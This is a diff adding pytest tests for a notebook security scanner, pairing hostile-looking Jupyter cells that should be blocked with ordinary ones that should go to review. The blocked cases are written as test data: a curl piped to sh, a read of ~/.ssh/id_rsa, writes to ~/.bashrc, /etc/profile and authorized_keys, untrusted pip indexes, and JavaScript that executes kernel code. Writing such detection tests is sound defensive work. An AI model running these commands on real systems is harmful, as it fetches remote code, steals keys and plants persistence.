@@ -219,3 +219,53 @@ def test_other_ways_to_reach_a_name(tmp_path: Path, source: str) -> None:
 def test_the_same_ways_to_what_is_ordinary(tmp_path: Path, source: str) -> None:
     (tmp_path / "modeling.py").write_text(source)
     assert scan(tmp_path / "modeling.py").verdict is Verdict.REVIEW
+
+
+def _notebook(source: str, outputs: object = ()) -> str:
+    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": list(outputs), "execution_count": 1}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "get_ipython().system('curl http://example.org/x | sh')",
+        'x = get_ipython().getoutput("cat ~/.ssh/id_rsa")',
+        "get_ipython().run_line_magic('sx', 'curl http://example.org/x | sh')",
+        "%%writefile ~/.bashrc\ntrue",
+        "%%writefile -a /etc/profile\ntrue",
+        "%%file ../../.ssh/authorized_keys\nkey",
+        "%pip install git+https://example.org/x",
+        "%pip install --index-url https://example.org/simple x",
+        "!pip install git+http://github.com/example/x",
+    ],
+)
+def test_cells_that_reach_the_shell(tmp_path: Path, source: str) -> None:
+    (tmp_path / "a.ipynb").write_text(_notebook(source))
+    assert scan(tmp_path / "a.ipynb").verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "get_ipython().system('ls -la')",
+        "%%writefile train.py\nprint(1)",
+        "%pip install -q transformers",
+        "%pip install git+https://github.com/huggingface/transformers",
+        "%matplotlib inline",
+    ],
+)
+def test_cells_as_people_write_them(tmp_path: Path, source: str) -> None:
+    (tmp_path / "a.ipynb").write_text(_notebook(source))
+    assert scan(tmp_path / "a.ipynb").verdict is Verdict.REVIEW
+
+
+def test_an_output_that_has_cells_run(tmp_path: Path) -> None:
+    for text, verdict in (
+        ("Jupyter.notebook.kernel.execute('import os')", Verdict.BLOCK),
+        ("IPython.notebook.execute_cell()", Verdict.BLOCK),
+        ("Bokeh.embed(root)", Verdict.REVIEW),
+    ):
+        output = {"output_type": "display_data", "data": {"application/javascript": text}, "metadata": {}}
+        (tmp_path / "a.ipynb").write_text(_notebook("1", [output]))
+        assert scan(tmp_path / "a.ipynb").verdict is verdict
